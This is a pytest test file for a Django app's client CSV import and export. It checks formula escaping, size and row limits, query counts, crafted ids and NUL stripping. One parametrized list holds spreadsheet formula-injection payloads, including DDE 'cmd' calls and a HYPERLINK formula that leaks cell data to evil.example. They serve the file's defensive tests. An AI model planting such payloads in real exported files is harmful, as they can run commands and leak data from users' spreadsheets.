"""CSV import and export under hostile or heavy input: formulas, size caps, query counts."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from clients.models import Client, ConsentChange
from tests.clients.test_import_export import HEADER, LIST, dry_run, export, import_csv, invalid_rows
from tests.factories import ClientFactory, TagFactory

pytestmark = pytest.mark.django_db


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text)))


def write_csv(rows):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


class TestFormulasOnExport:
    """A cell a spreadsheet would run as a formula is exported as text (a leading ')."""

    @pytest.mark.parametrize(
        "value",
        [
            "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",  # full-width equals: some spreadsheets read it as "="
        ],
    )
    def test_a_formula_in_any_text_column_is_exported_as_text(self, trainer_client, trainer, value):
        ClientFactory(trainer=trainer, first_name=value, last_name=value, notes=value)
        [row] = export(trainer_client)
        assert (row["first_name"], row["last_name"], row["notes"]) == (f"'{value}",) * 3

    def test_ordinary_values_numbers_and_blanks_are_exported_unchanged(self, trainer_client, trainer):
        ClientFactory(
            trainer=trainer,
            first_name="Ann-Marie",
            last_name="O'Neil",
            notes="-5",
            phone="+447911123456",
            email="a+b=c@example.com",
            birth_date=None,
        )
        [row] = export(trainer_client)
        assert (row["first_name"], row["last_name"], row["notes"]) == ("Ann-Marie", "O'Neil", "-5")
        assert (row["phone"], row["email"], row["birth_date"], row["timezone"]) == (
            "+447911123456",
            "a+b=c@example.com",
            "",
            "",
        )

    def test_reimporting_an_escaped_export_keeps_the_original_text(self, trainer_client, trainer):
        client = ClientFactory(trainer=trainer, first_name="=Ann", notes="- knee\n- shoulder", email="")
        text = write_csv(export(trainer_client))
        assert "'=Ann" in text
        response = import_csv(trainer_client, text)
        assert response.status_code == 200
        client.refresh_from_db()
        assert (client.first_name, client.notes) == ("=Ann", "- knee\n- shoulder")


def upload(http, text, name="clients.csv"):
    file = SimpleUploadedFile(name, text.encode(), content_type="text/csv")
    return http.post(LIST + "import/", {"import_file": file, "format": "0", "resource": "0"})


class TestImportCaps:
    def test_a_file_over_the_size_limit_is_a_form_error_and_nothing_is_read(self, trainer_client, settings):
        settings.CLIENT_IMPORT_MAX_BYTES = 1000
        text = HEADER + "\n" + ",Ada,Lane,,,,,active,,,,0\n" * 40
        response = upload(trainer_client, text)
        assert response.status_code == 200
        assert "result" not in response.context
        assert response.context["form"].errors["import_file"] == [
            "This file is 1.1\xa0KB; the limit is 1000\xa0bytes. Split it into smaller files."
        ]
        assert not Client.objects.exists()

    def test_a_file_with_too_many_rows_is_a_form_error(self, trainer_client, settings):
        settings.CLIENT_IMPORT_MAX_ROWS = 3
        text = HEADER + "\n" + ",Ada,Lane,,,,,active,,,,0\n" * 4
        response = upload(trainer_client, text)
        assert "result" not in response.context
        assert response.context["form"].errors["import_file"] == [
            "This file has 4 rows; the limit is 3. Split it into smaller files."
        ]

    def test_a_quoted_line_break_is_not_a_row(self, trainer_client, trainer, settings):
        settings.CLIENT_IMPORT_MAX_ROWS = 2
        text = f'{HEADER}\n,Ada,,,,,,active,,,"line one\nline two\nline three",0\n,Bo,,,,,,active,,,,0\n'
        import_csv(trainer_client, text)
        assert Client.objects.get(first_name="Ada").notes == "line one\nline two\nline three"

    def test_the_limits_are_named_on_the_import_page(self, trainer_client, settings):
        settings.CLIENT_IMPORT_MAX_ROWS = 20000
        settings.CLIENT_IMPORT_MAX_BYTES = 5 * 1024 * 1024
        body = trainer_client.get(LIST + "import/").content.decode()
        assert "at most 20,000 rows and 5.0\xa0MB" in body


def studio_file(trainer, existing, new_rows):
    """An edited export: every existing client changed a little, plus new clients."""
    lines = [HEADER + ",sms_marketing"]
    for i, client in enumerate(existing):
        ident = client.pk if i % 2 else ""  # half by id, half by email
        lines.append(f'{ident},Renamed{i},,{client.email.upper()},,,,active,,"yoga, new{i % 3}",,{i % 2},1')
    for i in range(new_rows):
        lines.append(
            f",New{i},,new{i}@example.com,07911 12345{i % 10},1990-01-0{1 + i % 9},,lead,,rehab,,1,0"
        )
    return "\n".join(lines) + "\n"


class TestImportQueries:
    """The number of queries of a preview and a confirmation does not grow with the rows.

    Each step, whatever the file's size (up to 1,000 rows: one bulk batch): the
    session, the user and its permissions (4); the manager check; the tags named
    (look up, create the missing, look up those); the clients by id and their tags
    (2), who holds each email, those clients and their tags (3); one insert and one
    update of clients, the tag links (delete, insert) and the preference audit rows;
    the savepoints around them; the inbox count in the page header on the preview,
    the sequence reset (PostgreSQL) and two admin log inserts on the confirmation.
    """

    @pytest.mark.parametrize("size", [4, 40])
    def test_preview_and_confirmation_take_a_fixed_number_of_queries(
        self, trainer_client, trainer, size, django_assert_max_num_queries
    ):
        TagFactory(name="yoga")
        existing = [
            ClientFactory(trainer=trainer, email=f"c{i}@example.com", first_name=f"C{i}") for i in range(size)
        ]
        for client in existing:
            client.tags.add(TagFactory(name="old"))
        text = studio_file(trainer, existing, new_rows=size)

        with django_assert_max_num_queries(34):
            response = dry_run(trainer_client, text)
        assert not invalid_rows(response)
        confirm = response.context["confirm_form"]
        with django_assert_max_num_queries(34):
            trainer_client.post(LIST + "process_import/", {**confirm.initial, "format": "0", "resource": "0"})

        assert Client.objects.count() == 2 * size
        for i, client in enumerate(existing):
            client.refresh_from_db()
            assert client.first_name == f"Renamed{i}"
            assert sorted(client.tags.values_list("name", flat=True)) == ["new" + str(i % 3), "yoga"]
            assert (client.email_marketing, client.sms_marketing) == (bool(i % 2), True)
        new = Client.objects.get(first_name="New1")
        assert (new.trainer, new.email, str(new.phone), new.status) == (
            trainer,
            "new1@example.com",
            "+447911123451",
            "lead",
        )
        assert list(new.tags.values_list("name", flat=True)) == ["rehab"]
        # Every preference change is on record: marketing email for the new clients
        # and the odd existing ones, marketing SMS for every existing one.
        assert ConsentChange.objects.filter(source="import").count() == size + size // 2 + size


class TestRowChecksWithoutQueries:
    """Row checks now run against lookups made once per file: they must still hold."""

    def test_an_email_another_of_the_trainers_clients_has_is_refused(self, trainer_client, trainer):
        ClientFactory(trainer=trainer, email="taken@example.com")
        moving = ClientFactory(trainer=trainer, email="me@example.com")
        response = dry_run(trainer_client, f"{HEADER}\n{moving.pk},Me,,Taken@Example.com,,,,active,,,,0\n")
        assert invalid_rows(response) == {
            1: {"__all__": ["This trainer already has a client with this email."]}
        }

    def test_two_new_rows_with_one_email_make_one_client(self, trainer_client, trainer):
        import_csv(
            trainer_client,
            f"{HEADER}\n,Ada,,ada@example.com,,,,active,,,,0\n,Adele,,ADA@example.com,,,,lead,,,,1\n",
        )
        ada = Client.objects.get()
        assert (ada.first_name, ada.status, ada.email_marketing) == ("Adele", "lead", True)
        assert ConsentChange.objects.filter(client=ada).count() == 1

    def test_the_same_client_twice_applies_both_rows_in_order(self, trainer_client, trainer):
        client = ClientFactory(trainer=trainer, email="pat@example.com", email_marketing=False)
        text = f"{HEADER}\n{client.pk},Pat,,pat@example.com,,,,active,,yoga,,1\n,Patricia,,pat@example.com,,,,active,,,,0\n"
        import_csv(trainer_client, text)
        client.refresh_from_db()
        assert (client.first_name, client.email_marketing) == ("Patricia", False)
        assert list(client.tags.values_list("name", flat=True)) == []
        assert [c.granted for c in ConsentChange.objects.filter(client=client).order_by("pk")] == [
            True,
            False,
        ]

    def test_an_unchanged_row_is_skipped_and_writes_nothing(self, trainer_client, trainer):
        client = ClientFactory(trainer=trainer, first_name="Same", email="same@example.com")
        client.tags.add(TagFactory(name="yoga"))
        before = Client.objects.get().updated_at
        rows = export(trainer_client)
        response = import_csv(trainer_client, write_csv(rows))
        assert "0 new, 0 updated, 0 deleted and 1 skipped" in response.content.decode()
        assert Client.objects.get().updated_at == before

    def test_the_preview_shows_each_change_as_before(self, trainer_client, trainer):
        client = ClientFactory(trainer=trainer, first_name="Old", last_name="Lane", email="old@example.com")
        text = f"{HEADER}\n{client.pk},New,Lane,old@example.com,,,,active,,yoga,,0\n,Ada,,,,,,lead,,,,0\n"
        result = dry_run(trainer_client, text).context["result"]
        update, new = result.valid_rows()
        assert (update.import_type, new.import_type) == ("update", "new")
        cells = dict(zip(result.diff_headers, update.diff, strict=True))
        assert cells["first_name"] == (
            '<del style="background:#ffe6e6;">Old</del><ins style="background:#e6ffe6;">New</ins>'
        )
        assert cells["tags"] == '<ins style="background:#e6ffe6;">yoga</ins>'
        assert (cells["last_name"], cells["status"], cells["birth_date"]) == (
            "<span>Lane</span>",
            "<span>active</span>",
            "",
        )
        cells = dict(zip(result.diff_headers, new.diff, strict=True))
        assert (cells["first_name"], cells["status"], cells["email_marketing"]) == (
            '<ins style="background:#e6ffe6;">Ada</ins>',
            '<ins style="background:#e6ffe6;">lead</ins>',
            "<span>0</span>",
        )


class TestCraftedIds:
    @pytest.mark.parametrize(
        "crafted",
        [
            lambda pk: "²",
            # Arabic-Indic digits: int() reads them as the client's own id.
            lambda pk: "".join(chr(0x0660 + int(d)) for d in str(pk)),
            lambda pk: "９" * 3,  # full-width digits
            lambda pk: "9" * 25,
            lambda pk: "0",
        ],
        ids=["superscript", "arabic-indic", "full-width", "huge", "zero"],
    )
    def test_an_id_that_is_not_plain_digits_is_a_clear_row_error(self, trainer_client, trainer, crafted):
        client = ClientFactory(trainer=trainer, first_name="Kept")
        raw = crafted(client.pk)
        response = dry_run(trainer_client, f"{HEADER}\n{raw},Hijacked,,,,,,active,,,,0\n")
        assert not response.context["result"].has_errors()
        assert invalid_rows(response) == {1: {"id": [f"“{raw}” is not a client number."]}}
        client.refresh_from_db()
        assert client.first_name == "Kept"


def test_a_row_that_fails_at_confirmation_stops_the_whole_import(trainer_client, trainer, other_trainer):
    bo = ClientFactory(trainer=trainer, first_name="Bo")
    response = dry_run(trainer_client, f"{HEADER}\n,Ada,,,,,,active,,,,0\n{bo.pk},Bob,,,,,,active,,,,0\n")
    confirm = response.context["confirm_form"]
    Client.objects.filter(pk=bo.pk).update(trainer=other_trainer)  # a manager moved Bo meanwhile

    done = trainer_client.post(
        LIST + "process_import/", {**confirm.initial, "format": "0", "resource": "0"}, follow=True
    )

    assert [str(m) for m in done.context["messages"]] == [
        "Nothing was imported: 1 row(s) no longer pass the checks; the clients may have changed "
        "since the preview. Upload the file again to see why."
    ]
    assert list(Client.objects.values_list("first_name", flat=True)) == ["Bo"]


def test_nul_characters_in_cells_are_dropped(trainer_client, trainer):
    TagFactory(name="yoga")
    import_csv(trainer_client, f"{HEADER}\n,Ad\x00a,,ada\x00@example.com,,,,active,,yo\x00ga,Kn\x00ee,0\n")
    ada = Client.objects.get()
    assert (ada.first_name, ada.email, ada.notes) == ("Ada", "ada@example.com", "Knee")
    assert list(ada.tags.values_list("name", flat=True)) == ["yoga"]


@pytest.mark.parametrize("notes", ["'=1+1", "''=1", "'+447911123456", "'hello", "'"])
def test_text_that_starts_with_an_apostrophe_round_trips(trainer_client, trainer, notes):
    client = ClientFactory(trainer=trainer, notes=notes)
    import_csv(trainer_client, write_csv(export(trainer_client)))
    client.refresh_from_db()
    assert client.notes == notes
